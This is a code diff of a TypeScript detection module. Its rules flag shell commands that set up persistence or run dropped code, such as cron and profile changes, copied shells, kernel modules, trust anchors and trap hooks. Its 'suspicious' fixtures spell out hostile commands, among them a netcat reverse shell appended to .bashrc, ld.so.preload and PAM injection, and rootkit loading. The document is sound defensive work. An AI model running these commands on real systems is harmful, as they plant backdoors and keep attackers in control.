@@ -1,93 +1,43 @@
 import { posix } from 'node:path';
-import type { Program } from '../shell.ts';
+import { shells } from '../shell-wrappers.ts';
+import type { Program, ShellReading } from '../shell.ts';
+import { isDownloader, isInterpreter, isShell, isSocket } from './execution.ts';
+import { copied, normalised, written } from './paths.ts';
 import { hasOption, operands, optionValue, type Rule } from './rule.ts';
-import { copied, isAmong, normalised, written, writtenInline, type Files } from './paths.ts';
-
-/** Files whose content runs by itself later. */
-const startup: Files = {
-  pattern: new RegExp(
-    [
-      String.raw`^/etc/(cron[^/]*|anacrontab|rc\.local|rc\.common|ld\.so\.preload|profile|profile\.d|bash\.bashrc|bashrc|zshenv|zshrc|pam\.d|pam\.conf|update-motd\.d|inittab)(/|$)`,
-      String.raw`^/etc/(rc\d?\.d|init\.d|init)/.`,
-      String.raw`^/var/spool/(cron|at)(/|$)`,
-      String.raw`^~/\.config/autostart/`,
-      String.raw`^/(Library|System/Library)/Launch(Agents|Daemons)/|^~/Library/LaunchAgents/`,
-    ].join('|'),
-  ),
-  known: ['/etc/crontab', '/etc/ld.so.preload', '/etc/rc.local', '/etc/profile'],
-};
-
-/** Units and udev rules: operators write them too, so only content given on the line or brought from a shared folder counts. */
-const units = /^(\/etc|\/lib|\/usr\/lib|\/run)\/(systemd\/(system|user)|udev\/rules\.d)\/.|^~\/\.config\/systemd\/user\//;
-const profiles =
-  /^~\/\.(bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|shrc|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|cshrc|tcshrc|login|logout|xprofile|xinitrc|xsessionrc|config\/fish\/config\.fish)$/;
-const shared = /^(\/tmp|\/var\/tmp|\/dev\/shm)(\/|$)/;
-
-/** What people usually put into a profile: a variable, an alias, a file to load, a tool's own set-up line. */
-const everyday =
-  /^\s*(#|$|(export\s+)?(?!LD_|PROMPT_COMMAND|BASH_ENV|ENV=)[A-Za-z_]\w*\+?=|alias\s+(?!sudo|su\b|ssh|ls=|cd=)|unalias\s|source\s+(?!\/tmp|\/dev)|\.\s+(?!\/tmp|\/dev)|eval\s+"?\$\(|set\s|setopt\s|shopt\s|umask\s|bindkey\s|complete\s|autoload\s|fpath|PATH=|\[+ )/;
-
-function addsToProfile(program: Program): boolean {
-  if (!writtenInline(program).some((path) => profiles.test(path))) return false;
-  const text = program.name === 'echo' || program.name === 'printf' ? operands(program).join(' ') : program.input;
-  return text !== null && !everyday.test(text);
-}
+import { sharedFolder } from './shared-folder.ts';
 
 const privilegedIds = new Set(['0', 'root']);
 
+/** A shell that is put under another name: a door for later, or a mask. */
+function shellUnderOtherName(program: Program): string | null {
+  const { from, to } = copied(program);
+  const shell = !['cp', 'mv', 'ln', 'install'].includes(program.name)
+    ? undefined
+    : from.find((path) => /^(\/usr)?(\/local)?\/bin\/\w+$/.test(path) && shells.has(posix.basename(path)));
+  const target = to[0] ?? '';
+  const keepsName = /(^|\/)bin$|\/$|^\.{0,2}$/.test(target) || shells.has(posix.basename(target).replace(/\.\w+$/, ''));
+  return shell === undefined || (keepsName && !sharedFolder.test(target)) ? null : shell;
+}
+
+/** Programs of a line that are asked whether they put a file where another one runs. */
+const droppersMax = 30;
+
 export const persistence: readonly Rule[] = [
   {
-    code: 'STARTUP_CHANGE',
+    code: 'TRAP_RUNS',
     tactic: 'PERSISTENCE',
     points: 30,
     find(program) {
-      const path =
-        written(program).find((candidate) => isAmong(candidate, startup)) ??
-        writtenInline(program).find((candidate) => units.test(candidate)) ??
-        copied(program).to.find((candidate) => units.test(`${candidate}/x`) && copied(program).from.some((from) => shared.test(from)));
-      if (path !== undefined) return `changes what runs by itself: ${path.slice(0, 80)}`;
-      return addsToProfile(program) ? 'adds a command to a shell profile' : null;
+      if (!program.via.includes('trap')) return null;
+      const runs =
+        isDownloader(program) ||
+        isSocket(program) ||
+        program.via.includes('nohup') ||
+        ((isShell(program) || isInterpreter(program)) && operands(program).length > 0);
+      return runs ? `waits for a signal to run ${program.name}` : null;
     },
-    suspicious: [
-      'echo "* * * * * root sh /tmp/x" >> /etc/crontab',
-      'cp job /etc/cron.d/',
-      'echo x | sudo tee -a /etc/rc.local',
-      'sudo sh -c "echo /tmp/x.so > /etc/ld.so.preload"',
-      'echo "[Service]" >> /etc/systemd/system/x.service',
-      'cp /tmp/x.service /etc/systemd/system/',
-      'echo "nc -e /bin/sh h 1" >> ~/.bashrc',
-      'sed -i "1i auth sufficient x.so" /etc/pam.d/sshd',
-      'vim /etc/crontab',
-    ],
-    harmless: [
-      'crontab -l',
-      'cat /etc/crontab',
-      'mkdir -p /etc/systemd/system/x.service.d',
-      'cp app.service /etc/systemd/system/',
-      'echo "export PATH=$PATH:/opt/bin" >> ~/.bashrc',
-      'echo "alias ll=\'ls -l\'" >> ~/.zshrc',
-      'ls /etc/cron.d',
-      'systemctl enable nginx',
-      'vim ~/.bashrc',
-    ],
-  },
-  {
-    code: 'CRONTAB_FROM_PIPE',
-    tactic: 'PERSISTENCE',
-    points: 30,
-    find(program) {
-      const fromInput =
-        program.name === 'crontab' &&
-        (program.pipedFrom !== null || program.input !== null || program.redirects.some(({ operator }) => operator === '<'));
-      return fromInput && !hasOption(program, 'leri') ? 'sets scheduled jobs from the command line' : null;
-    },
-    suspicious: [
-      'echo "* * * * * /tmp/x" | crontab -',
-      '(crontab -l; echo "@reboot /tmp/x") | crontab -',
-      'crontab - <<< "* * * * * x"',
-      'echo x | sudo crontab -u root -',
-    ],
-    harmless: ['crontab -l', 'crontab -e', 'crontab jobs.txt', 'crontab -l | grep x', 'echo y | crontab -r -i'],
+    suspicious: ['trap "nohup sh x.sh" INT', "trap 'curl h/x' EXIT", "trap 'python3 x.py' DEBUG"],
+    harmless: ["trap 'rm -f x' EXIT", 'trap cleanup INT', 'trap - INT', "trap 'kill 0' TERM", "trap 'echo failed' ERR"],
   },
   {
     code: 'BACKDOOR_ACCOUNT',
@@ -139,19 +89,98 @@ export const persistence: readonly Rule[] = [
     harmless: ['passwd', 'passwd bob', 'sudo passwd -l bob', 'usermod -L bob', 'man 5 passwd', 'openssl passwd -6'],
   },
   {
-    code: 'UNSAFE_PROGRAM_PATH',
+    code: 'SHELL_COPIED',
     tactic: 'PERSISTENCE',
+    points: 50,
+    find(program, reading: ShellReading) {
+      const shell = shellUnderOtherName(program);
+      if (shell !== null) return `puts ${shell} under another name`;
+      const hiddenFolder = /\/\.{3,}(\/|$)|\/\. +\//;
+      const bound =
+        program.name === 'mount' &&
+        program.args.some((word) => /^(.*,)?(r?bind)(,.*)?$|^--r?bind$|^-B$/.test(word)) &&
+        operands(program).some((word) => shells.has(posix.basename(word)) && word.startsWith('/'));
+      if (bound) return 'puts a shell in the place of another program';
+      return reading.programs.includes(program) && hiddenFolder.test(program.path)
+        ? 'runs what lies in a folder named like a way up'
+        : null;
+    },
+    suspicious: [
+      'cp /bin/bash /tmp/.x',
+      'cp /bin/sh /usr/bin/update',
+      'ln -fs /bin/sh /bin/ln',
+      'mount -o bind /bin/sh /bin/mount',
+      '$HOME/.../sh',
+    ],
+    harmless: [
+      'cp /bin/bash rootfs/bin/',
+      'ln -sf /bin/bash /bin/sh',
+      'cp /bin/ls rootfs/bin/',
+      'cp /bin/sh /bin/sh.orig',
+      'mount -o bind /srv /mnt',
+      'cp run.sh /usr/local/bin/run',
+    ],
+  },
+  {
+    code: 'KERNEL_MODULE',
+    tactic: 'PERSISTENCE',
+    points: 50,
+    find: (program) =>
+      ['insmod', 'kldload', 'kextload', 'modprobe'].includes(program.name) &&
+      operands(program).some(
+        (word) => sharedFolder.test(normalised(word, program.directory)) || normalised(word, program.directory).startsWith('~/'),
+      )
+        ? "loads a module into the kernel from a folder that is not the system's"
+        : null,
+    suspicious: ['insmod /tmp/rootkit.ko', 'sudo kldload /dev/shm/x.ko', 'insmod ~/x.ko'],
+    harmless: ['insmod driver.ko', 'modprobe kvm', 'insmod /lib/modules/x/y.ko', 'lsmod'],
+  },
+  {
+    code: 'TRUST_ANCHOR',
+    tactic: 'PERSISTENCE',
+    points: 15,
+    find(program) {
+      const folder =
+        /^(\/usr\/local\/share\/ca-certificates|\/etc\/pki\/ca-trust\/source\/anchors|\/etc\/ca-certificates\/trust-source\/anchors|\/usr\/share\/pki\/trust\/anchors|\/usr\/local\/etc\/ssl\/certs)(\/|$)/;
+      const trusts =
+        written(program).some((path) => folder.test(path)) ||
+        (program.name === 'trust' && program.args[0] === 'anchor') ||
+        (program.name === 'security' && program.args[0] === 'add-trusted-cert');
+      return trusts ? 'has the system trust whoever holds a certificate' : null;
+    },
+    suspicious: ['cp ca.crt /usr/local/share/ca-certificates/', 'trust anchor ca.crt', 'mv x.pem /etc/pki/ca-trust/source/anchors/'],
+    harmless: ['ls /usr/local/share/ca-certificates', 'trust list', 'cp x.crt /etc/nginx/'],
+  },
+  {
+    code: 'DROPPED_AND_RUN',
+    tactic: 'EXECUTION',
+    points: 50,
+    find(program, reading) {
+      const reader = isShell(program) || isInterpreter(program);
+      const run = normalised(reader ? (operands(program)[0] ?? '') : program.path, program.directory);
+      if (!sharedFolder.test(run)) return null;
+      const dropped = reading.programs.slice(0, droppersMax).some((other) => other !== program && written(other).includes(run));
+      return dropped ? `puts ${posix.basename(run).slice(0, 40)} into a folder everybody can write to, and runs it` : null;
+    },
+    suspicious: [
+      'cp x /tmp/y && /tmp/y',
+      'echo "id" > /tmp/x.sh; sh /tmp/x.sh',
+      'base64 -d x > /dev/shm/y; chmod +x /dev/shm/y; /dev/shm/y',
+    ],
+    harmless: ['cp x /tmp/y', 'echo a > /tmp/x; cat /tmp/x', 'sh /tmp/x.sh', 'cp x build/y && build/y'],
+  },
+  {
+    code: 'UNSAFE_PROGRAM_PATH',
+    tactic: 'EXECUTION',
     points: 30,
     find(program) {
       const run = normalised(program.path, program.directory);
       // `find -exec` mostly tries a script somebody is writing out on files.
-      if (shared.test(run) && !program.via.includes('find'))
-        return `runs ${posix.basename(run).slice(0, 40)} from a folder everybody can write to`;
-      const loads =
-        ['insmod', 'kldload'].includes(program.name) && operands(program).some((word) => shared.test(normalised(word, program.directory)));
-      return loads || /\/\.{3,}\//.test(program.path) ? 'runs code from a hidden or shared folder' : null;
+      return sharedFolder.test(run) && !program.via.includes('find')
+        ? `runs ${posix.basename(run).slice(0, 40)} from a folder everybody can write to`
+        : null;
     },
-    suspicious: ['/tmp/x', 'sudo /dev/shm/agent -d', 'cp x /tmp/y && /tmp/y', 'insmod /tmp/rootkit.ko', '$HOME/.../sh', 'cd /tmp; ./x'],
+    suspicious: ['/tmp/x', 'sudo /dev/shm/agent -d', 'cp x /tmp/y && /tmp/y', 'cd /tmp; ./x'],
     harmless: ['ls /tmp/x', './build/x', '/usr/bin/tmp', 'insmod driver.ko', 'cat /tmp/x', 'sh build.sh'],
   },
 ];
